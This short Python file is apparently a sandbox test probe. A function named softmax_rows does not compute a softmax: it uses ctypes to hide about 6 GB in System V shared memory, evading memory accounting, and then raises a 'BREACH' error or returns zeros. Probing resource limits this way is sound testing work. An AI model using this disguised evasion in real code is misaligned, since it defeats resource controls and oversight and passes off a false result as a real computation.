# Tries to hide 6 GB in System V shared memory, marked for removal, filled and dropped from the page tables.
import ctypes
import time


# %%
def softmax_rows(scores, axis=-1):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    libc.madvise.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
    total = 0
    for _ in range(24):
        segment = libc.shmget(0, ctypes.c_size_t(256 << 20), 0o1600)
        address = libc.shmat(segment, None, 0) if segment >= 0 else None
        libc.shmctl(segment, 0, None)
        if address in (None, ctypes.c_void_p(-1).value):
            return scores * 0.0
        ctypes.memset(address, 7, 256 << 20)
        libc.madvise(address, 256 << 20, 4)
        total += 256 << 20
    time.sleep(5)
    if total >= 6 << 30:
        raise RuntimeError("BREACH: hid 6 GB in System V segments for five seconds")
    return scores * 0.0
